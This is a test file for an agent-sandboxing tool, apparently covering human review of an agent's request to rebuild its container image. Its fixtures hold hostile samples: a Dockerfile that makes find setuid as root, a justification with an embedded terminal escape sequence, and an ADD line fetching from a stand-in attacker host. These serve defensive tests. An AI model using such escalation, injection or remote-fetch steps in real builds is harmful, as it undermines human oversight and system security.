import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { BottleHost } from '@bot-bottle/backend';
import { BackendError } from '@bot-bottle/backend';
import type { ProposalRequest } from '@bot-bottle/supervise';
import { expect, it } from 'vitest';
import { imageOwner, type LiveOwner } from './live-owner.ts';
import { editorScript } from './reach-world.ts';
import { tempHome, type Outcome, type TempHome } from './temp-home.ts';

type CapabilityBlock = Extract<ProposalRequest, { kind: 'capability-block' }>;

const asked: CapabilityBlock = {
  kind: 'capability-block',
  dockerfile: 'FROM agent\nUSER root\nRUN chmod u+s /usr/bin/find\n',
  current: 'FROM agent\n',
  justification: 'the tests\u001b[2J need it',
};

interface World extends Omit<TempHome, 'cli' | 'write'> {
  readonly cli: (...given: Parameters<TempHome['cli']>) => Promise<Outcome>;
  readonly write: (...given: Parameters<TempHome['write']>) => string;
  readonly owner: LiveOwner;
  readonly id: string;
  readonly built: string[];
  readonly state: (file: string) => string;
}

async function world(build: BottleHost['rebuild'] | null = null): Promise<World> {
  const home = tempHome();
  const built: string[] = [];
  const owner = await imageOwner(home, [asked], build ?? (async (dockerfile) => void built.push(dockerfile)));
  await expect.poll(() => owner.warnings.filter((line) => line.includes(' asks: '))).toHaveLength(1);
  const [{ id } = { id: '' }] = JSON.parse((await home.cli(['supervise', 'list', '--json'])).out) as Array<{
    id: string;
  }>;
  return { ...home, owner, id, built, state: (file) => join(home.home, 'state', owner.identity, file) };
}

it('show prints the whole Dockerfile as a difference, the risks first, and nothing hidden', async () => {
  const { cli, id } = await world();
  const { code, out, err } = await cli(['supervise', 'show', id]);
  expect(code).toBe(0);
  expect(out).toContain(
    [
      'change      FROM agent',
      '          + USER root',
      '          + RUN chmod u+s /usr/bin/find',
      '            ',
      'because   the tests\\u{1b}[2J need it',
    ].join('\n'),
  );
  expect(out.indexOf('ends this bottle')).toBeLessThan(out.indexOf('change '));
  expect(out).toMatch(/makes programs setuid/);
  expect(err).toContain(`supervise modify ${id}`);
  const { out: json } = await cli(['supervise', 'show', id, '--json']);
  expect(JSON.parse(json)).toMatchObject({
    kind: 'capability-block',
    table: null,
    proposal: { request: asked },
  });
});

it('approve builds it, and the bottle ends by itself and is kept for its new image', async () => {
  const { cli, id, owner, built, state } = await world();
  const main = owner.launched.runMain({ stdin: null, stdout: null, stderr: null, tty: null });
  const { code, out, err } = await cli(['supervise', 'approve', id]);
  expect({ code, out }).toMatchObject({
    code: 0,
    out: expect.stringContaining(`bot-bottle resume ${owner.identity}`),
  });
  expect(err).toContain('+ RUN chmod u+s');
  expect(built).toEqual([asked.dockerfile]);
  await main;
  await expect
    .poll(async () => (await cli(['list', 'active', '--json'])).out.trim(), { timeout: 20_000 })
    .toBe('[]');
  expect(owner.launched.wasRebuilt).toBe(true);
  expect(readFileSync(state('Dockerfile'), 'utf8')).toBe(asked.dockerfile);
  expect(readFileSync(state('.preserve'), 'utf8')).toBe('rebuilt by capability-block\n');
  const { out: kept } = await cli(['list', 'preserved', '--json']);
  expect(JSON.parse(kept)).toMatchObject([{ identity: owner.identity }]);
});

it('what cannot be built is told, still waits, and the bottle goes on', async () => {
  const { cli, id, owner, state } = await world(async () => {
    throw new BackendError('launch_failed', 'returned a non-zero code: 3', { hint: 'before it: boom' });
  });
  const { code, err } = await cli(['supervise', 'approve', id]);
  expect(code).toBe(1);
  expect(err).toContain('returned a non-zero code: 3; before it: boom');
  expect(existsSync(state('Dockerfile'))).toBe(false);
  expect(owner.launched.wasRebuilt).toBe(false);
  expect((await cli(['supervise', 'reject', id, '--reason', 'no'])).out).toContain(`rejected ${id}`);
});

it('modify builds what the editor made of it, and shows what that changes', async () => {
  const { cli, id, built, ...rest } = await world();
  const editor = editorScript(
    { cli, ...rest },
    `sed -i 's|^RUN .*|RUN mkdir /data|' "$1"; basename "$1" > "$dir/name"`,
  );
  const { code, out, err } = await cli(['supervise', 'modify', id, '--yes'], { EDITOR: editor, VISUAL: '' });
  expect({ code, out }).toMatchObject({ code: 0, out: expect.stringMatching(/^modified /) });
  expect(err).toMatch(/builds {6}FROM agent\n {10}\+ USER root\n {10}\+ RUN mkdir \/data/);
  expect(built).toEqual(['FROM agent\nUSER root\nRUN mkdir /data\n']);
  expect(readFileSync(join(rest.dir, 'name'), 'utf8')).toBe('Dockerfile\n');
});

it.each([
  ['left as it was', 'exit 0', 0, /nothing was changed: nothing was decided/],
  [
    'that breaks the rules',
    `echo 'ADD https://evil.example/x /' >> "$1"`,
    1,
    /Dockerfile: line 4: ADD is refused/,
  ],
  ['of another image', `sed -i 's/agent/debian/' "$1"`, 1, /FROM must name/],
])('modify decides nothing by a Dockerfile %s', async (_what, script, expected, said) => {
  const { cli, id, built, ...rest } = await world();
  const editor = editorScript({ cli, ...rest }, script);
  const { code, err } = await cli(['supervise', 'modify', id, '--yes'], { EDITOR: editor, VISUAL: '' });
  expect(code).toBe(expected);
  expect(err).toMatch(said);
  expect(built).toEqual([]);
});

it.each([['--minutes', '5'], ['--session'], ['--save'], ['--table', 'a'.repeat(64)]])(
  'approve takes no %s for an image',
  async (...option) => {
    const { cli, id, built } = await world();
    expect(await cli(['supervise', 'approve', id, ...option])).toMatchObject({ code: 2 });
    expect(built).toEqual([]);
  },
);
